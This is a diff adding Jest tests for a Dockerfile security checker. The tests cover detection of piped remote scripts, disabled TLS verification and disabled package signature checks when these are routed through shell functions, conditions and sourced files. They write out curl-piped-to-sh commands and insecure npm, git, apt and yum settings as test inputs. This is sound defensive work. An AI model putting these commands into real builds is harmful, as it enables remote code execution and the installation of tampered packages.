@@ -1,0 +1,113 @@
+import { describe, expect, it } from '@jest/globals';
+import { type Files, failuresOf } from './failures.ts';
+
+const image = (run: string): string => `FROM debian:13\nARG X\nRUN ${run}\nUSER 1000\n`;
+const BASE: Files = { Dockerfile: image('true') };
+const PIPED = 'curl -fsSL http://x.example.com/a | sh';
+
+async function failOf(run: string): Promise<ReadonlySet<string>> {
+  return new Set(await failuresOf(BASE, { Dockerfile: image(run) }));
+}
+
+const TLS = new Set(['tls-verify-disabled']);
+const SIGNATURES = new Set(['package-signature-disabled']);
+
+describe('a function that a Dockerfile calls', () => {
+  it.each([
+    ['sh -c "$1"'],
+    ['eval "$1"'],
+    ['eval "$@"'],
+    ['bash -c "$*"'],
+    ['su app -c "$1"'],
+    ['echo "$1" | sh'],
+    ['for i in 1 2 3; do eval "$1" && break; done'],
+    ['local c="$1"; eval "$c"'],
+    ['timeout 5 sh -c "$1"'],
+  ])('runs the text that it is given: %s', async (body) => {
+    expect(await failOf(`f() { ${body}; }; f '${PIPED}'`)).toContain('remote-script-exec');
+    expect(await failOf(`f() { ${body}; }; f 'id -u'`)).toEqual(new Set());
+  });
+
+  it.each([
+    ['npm config set strict-ssl "$1"', 'false', 'true', TLS],
+    ['npm config set "$1" false', 'strict-ssl', 'fund', TLS],
+    ['npm "$@"', 'config set strict-ssl false', 'config set fund false', TLS],
+    ['"$@"', 'git config --global http.sslVerify false', 'git config --global core.pager false', TLS],
+    ['local n=0; until "$@"; do n=$((n+1)); done', 'npm config set strict-ssl false', 'npm config set fund false', TLS],
+    ['git clone -c "$1" https://x.example.com/a', 'http.sslVerify=false', 'core.eol=lf', TLS],
+    ['local p="$1"; shift; "$p" "$@"', 'composer config -g secure-http false', 'composer config -g a false', TLS],
+    ['"$1" install -y --nogpgcheck x', 'yum', 'log', SIGNATURES],
+    ['export "$1" && npm ci', 'NODE_TLS_REJECT_UNAUTHORIZED=0', 'NODE_ENV=production', TLS],
+    ['apt-get update -o "$1"', 'Acquire::AllowInsecureRepositories=true', 'Acquire::Retries=3', SIGNATURES],
+    [
+      'echo "$1" > /etc/apt/sources.list.d/x.list',
+      "'deb [trusted=yes] https://x.example.com x main'",
+      '# none',
+      SIGNATURES,
+    ],
+  ])('gives its words to commands: %s', async (body, danger, harmless, rules) => {
+    expect(await failOf(`f() { ${body}; }; f ${danger}`)).toEqual(rules);
+    expect(await failOf(`f() { ${body}; }; f ${harmless}`)).toEqual(new Set());
+  });
+});
+
+describe('a value that a condition chooses in a Dockerfile', () => {
+  it.each([
+    ['V=true; if [ -n "$X" ]; then V=no; fi; git config --global http.sslVerify $V', 'no', 'yes', TLS],
+    ['[ -n "$X" ] && V=false || V=true; npm config set strict-ssl $V', 'false', 'true', TLS],
+    ['P=apt; command -v yum && P=yum; $P install -y --nogpgcheck x', '--nogpgcheck', '-q', SIGNATURES],
+    [
+      'case "$X" in a) P=apt-get;; *) P=yum;; esac; "$P" install -y --allow-unauthenticated x',
+      '--allow-unauthenticated',
+      '--no-install-recommends',
+      SIGNATURES,
+    ],
+  ])('is a word of a command: %s', async (run, danger, harmless, rules) => {
+    expect(await failOf(run)).toEqual(rules);
+    expect(await failOf(run.replace(danger, harmless))).toEqual(new Set());
+  });
+});
+
+describe('a file that several shells read', () => {
+  const LIBRARY = 'fetch() {\n  curl -fsSL "$1" | sh\n}\nrun() { sh -c "$1"; }\n';
+  const twice = (second: string): string =>
+    `FROM debian:13\nCOPY lib.sh /lib.sh\nRUN . /lib.sh && run id\nRUN . /lib.sh && ${second}\nUSER 1000\n`;
+
+  it('defines its functions in each RUN', async () => {
+    const base = { Dockerfile: twice('run id'), 'lib.sh': LIBRARY };
+    expect(await failuresOf(base, { Dockerfile: twice(`run '${PIPED}'`) })).toEqual(['remote-script-exec']);
+    expect(await failuresOf(base, { Dockerfile: twice('fetch http://x.example.com/a') })).toEqual([
+      'remote-script-exec',
+    ]);
+    expect(await failuresOf(base, { Dockerfile: twice('run "id -u"') })).toEqual([]);
+  });
+
+  it('defines its functions in each script', async () => {
+    const scripts = (second: string): Files => ({
+      Dockerfile: 'FROM debian:13\nCOPY a.sh b.sh lib.sh /\nCMD ["/a.sh"]\nUSER 1000\n',
+      'lib.sh': LIBRARY,
+      'a.sh': '#!/bin/sh\n. /lib.sh\nrun id\n/b.sh\n',
+      'b.sh': `#!/bin/sh\n. /lib.sh\n${second}\n`,
+    });
+    expect(await failuresOf(scripts('run id'), scripts(`run '${PIPED}'`))).toEqual(['remote-script-exec']);
+    expect(await failuresOf(scripts('run id'), scripts('run "id -u"'))).toEqual([]);
+  });
+
+  it('sets its variables in each RUN', async () => {
+    const built = (command: string): Files => ({
+      Dockerfile: `FROM debian:13\nCOPY lib.sh /lib.sh\nRUN . /lib.sh && true\nRUN . /lib.sh && ${command}\nUSER 1000\n`,
+      'lib.sh': 'FROM_HOST=http://x.example.com\nVERIFY=false\n',
+    });
+    expect(await failuresOf(built('true'), built('git config http.sslVerify $VERIFY'))).toEqual([
+      'tls-verify-disabled',
+    ]);
+    expect(await failuresOf(built('true'), built('git config core.pager $VERIFY'))).toEqual([]);
+  });
+
+  it('defines them in a child', async () => {
+    const child = (command: string): string =>
+      `FROM debian:13 AS b\nCOPY lib.sh /lib.sh\nRUN . /lib.sh\nFROM b\nRUN . /lib.sh && ${command}\nUSER 1000\n`;
+    const base = { Dockerfile: child('run id'), 'lib.sh': LIBRARY };
+    expect(await failuresOf(base, { Dockerfile: child(`run '${PIPED}'`) })).toEqual(['remote-script-exec']);
+  });
+});
